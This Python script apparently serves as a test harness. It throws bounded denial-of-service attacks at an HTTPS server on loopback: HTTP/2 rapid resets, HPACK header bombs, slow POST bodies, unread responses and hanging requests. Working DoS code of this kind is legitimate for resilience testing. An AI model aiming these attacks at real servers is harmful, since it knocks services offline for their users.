# SPDX-License-Identifier: Apache-2.0
"""Attacks on an HTTPS server on loopback, each with limits of connections, bytes and time.

    python3 attackers.py ATTACK ADDRESS PORT SECONDS TARGETS

TARGETS is JSON: (host, path) by name. It prints "begun" when its first connections are open, and at the end, as
JSON, the sent data and the results. Its connections have their own source address.
"""

import json
import select
import socket
import ssl
import sys
import threading
import time
from collections import Counter
from dataclasses import dataclass
from typing import Callable

if __package__:
    from . import http2_frames as http2
else:
    import http2_frames as http2

SOURCE = "127.0.0.2"
CONNECT_SECONDS = 5
RECONNECTS_RATE = 20  # a second, for each connection that the server closes
PIECE = 65_536
BODIES, BODY_SIZE = 30, 9 << 20
BODY_RATE = 2 << 20  # bytes a second, for each connection
HPACK_REFERENCES, HPACK_RATE = 16_000, 1_000_000
RESET_BURST, RESET_RATE = 50, 2_000  # streams in one write, and streams a second of each connection
FUNCTION_RESETS = 500


@dataclass(frozen=True)
class Attack:
    """`script(targets, link)` yields the data that one connection sends; then the connection stays open."""
    connections: int
    script: Callable
    per_second: float = 1e9  # parts of the data, for each connection
    http2: bool = True
    reconnects: bool = False
    reads: bool = True
    receive_buffer: int | None = None


def hpack(targets, link):
    """Yields one field of 4 KB, and header blocks of 16 KB that refer to it 16,000 times."""
    host, path = targets["hello"]
    yield http2.opening() + http2.request(1, http2.get(host, path) + http2.large_field())
    block = http2.bomb(host, path, HPACK_REFERENCES)
    stream = 3
    while True:
        yield http2.request(stream, block)
        stream += 2


def resets(targets, name, count):
    """Yields requests whose streams are reset at once."""
    block = http2.get(*targets[name])
    yield http2.opening()
    stream = 1
    while stream < 2 * count:
        last = min(stream + 2 * RESET_BURST, 2 * count + 1)
        yield b"".join(http2.request(number, block) + http2.reset(number) for number in range(stream, last, 2))
        stream = last


def body(targets, name):
    """Yields a POST whose last bytes never arrive."""
    host, path = targets[name]
    head = f"POST {path} HTTP/1.1\r\nHost: {host}\r\nContent-Type: text/plain\r\nContent-Length: {BODY_SIZE}\r\n\r\n"
    yield head.encode()
    left = BODY_SIZE - 1
    while left:
        size = min(left, PIECE)
        yield b"a" * size
        left -= size


def bodies_over_http2(targets, link):
    """Yields the same POSTs on the streams of one connection, as far as the server's windows permit."""
    link.windows = windows = http2.Windows()
    block = http2.get(*targets["upload"], method=http2.METHOD_POST)
    streams = range(1, 2 * BODIES, 2)
    yield http2.opening() + b"".join(http2.request(stream, block, http2.END_HEADERS) for stream in streams)
    left = dict.fromkeys(streams, BODY_SIZE - 1)
    for stream in streams:
        windows.open(stream)
    while any(left[stream] for stream in streams if stream in windows.streams):
        idle = True
        for stream in streams:
            if size := windows.take(stream, min(left[stream], http2.MAX_FRAME)):
                left[stream] -= size
                idle = False
                yield http2.frame(http2.DATA, 0, stream, b"a" * size)
        if idle:
            yield b""  # the link reads the server's next frames meanwhile


def request(targets, name):
    host, path = targets[name]
    yield f"GET {path} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()


ATTACKS = {
    "hpack-1": Attack(1, hpack, HPACK_RATE / HPACK_REFERENCES, reconnects=True),
    "hpack-4": Attack(4, hpack, HPACK_RATE / HPACK_REFERENCES, reconnects=True),
    "bodies": Attack(BODIES, lambda targets, _: body(targets, "upload"), BODY_RATE / PIECE, http2=False),
    "bodies-http2": Attack(1, bodies_over_http2, BODIES * BODY_RATE / http2.MAX_FRAME),
    "denied": Attack(20, lambda targets, _: body(targets, "denied"), BODY_RATE / PIECE, http2=False),
    "unread": Attack(50, lambda targets, _: request(targets, "big"), http2=False, reads=False, receive_buffer=4096),
    "resets": Attack(4, lambda targets, _: resets(targets, "hello", 1 << 28), RESET_RATE / RESET_BURST, reconnects=True),
    "function-resets": Attack(1, lambda targets, _: resets(targets, "function", FUNCTION_RESETS)),
    "hanging-function": Attack(80, lambda targets, _: request(targets, "hang"), http2=False),
}


class Link:
    """A TLS connection that neither a full send buffer nor an unresponsive server blocks."""

    def __init__(self, endpoint, attack):
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols(["h2"] if attack.http2 else ["http/1.1"])
        plain = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        try:
            if attack.receive_buffer:
                plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, attack.receive_buffer)
            plain.settimeout(CONNECT_SECONDS)
            plain.bind((SOURCE, 0))
            plain.connect(endpoint)
            self.tls = context.wrap_socket(plain)
        except BaseException:
            plain.close()
            raise
        self.tls.setblocking(False)
        self.closed = False
        self.first = b""  # the first bytes from the server
        self.windows = None  # of HTTP/2, if the script respects them

    def send(self, payload, until):
        """Sends all bytes unless the connection or the time ends. Returns the number of sent bytes."""
        view, sent = memoryview(payload), 0
        while sent < len(view) and not self.closed and time.monotonic() < until:
            try:
                sent += self.tls.send(view[sent:])
            except (ssl.SSLWantWriteError, ssl.SSLWantReadError):
                self.read()
                select.select([], [self.tls], [], 0.02)
            except OSError:
                self.closed = True
        return sent

    def read(self):
        """Reads the available data."""
        try:
            while True:
                payload = self.tls.recv(PIECE)
                if not payload:
                    self.closed = True
                    return
                self.first = (self.first + payload)[:16]
                if self.windows:
                    self.windows.feed(payload)
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            return
        except OSError:
            self.closed = True


class Run:
    """An attack in progress: a thread for each connection."""

    def __init__(self, attack, endpoint, seconds, targets):
        self.attack, self.endpoint, self.targets = attack, endpoint, targets
        self.end = time.monotonic() + CONNECT_SECONDS + seconds
        self.seconds = seconds
        self.tally = Counter()
        self.lock = threading.Lock()
        self.connected = threading.Barrier(attack.connections + 1)

    def count(self, **more):
        with self.lock:
            self.tally.update(more)

    def connect(self):
        try:
            link = Link(self.endpoint, self.attack)
            self.count(connections=1)
            return link
        except OSError:
            self.count(refused=1)
            return None

    def work(self):
        link = self.connect()
        self.connected.wait()
        while True:
            begun = time.monotonic()
            if link:
                self.use(link)
                link.tls.close()
            if not self.attack.reconnects:
                return
            time.sleep(max(0, begun + 1 / RECONNECTS_RATE - time.monotonic()))
            if time.monotonic() >= self.end:
                return
            link = self.connect()

    def use(self, link):
        """Sends the script's data at its rate, then waits until the connection or the attack ends."""
        begun, done = time.monotonic(), 0
        for piece in self.attack.script(self.targets, link):
            self.read(link)
            while (due := begun + done / self.attack.per_second) > time.monotonic():
                time.sleep(min(0.02, due - time.monotonic() + 0.0005))
                self.read(link)
                if link.closed or time.monotonic() > self.end:
                    break
            if not link.closed and time.monotonic() < self.end:
                sent = link.send(piece, self.end)
                self.count(bytes=sent)
            if link.closed or time.monotonic() > self.end:
                break
            done += 1
        while not link.closed and time.monotonic() < self.end:
            time.sleep(0.05)
            self.read(link)
        self.count(closed=int(link.closed))
        if link.first.startswith(b"HTTP/1.1 "):
            self.count(**{link.first[9:12].decode(): 1})

    def read(self, link):
        if self.attack.reads:
            link.read()

    def run(self, begun=lambda: None):
        """Runs the attack and returns the counts; calls `begun` when the first connections are open."""
        threads = [threading.Thread(target=self.work) for _ in range(self.attack.connections)]
        for thread in threads:
            thread.start()
        self.connected.wait()
        self.end = time.monotonic() + self.seconds
        begun()
        for thread in threads:
            thread.join()
        return dict(self.tally)


def main():
    name, address, port, seconds, targets = sys.argv[1:6]
    run = Run(ATTACKS[name], (address, int(port)), float(seconds), json.loads(targets))
    print(json.dumps(run.run(lambda: print("begun", flush=True))), flush=True)


if __name__ == "__main__":
    main()
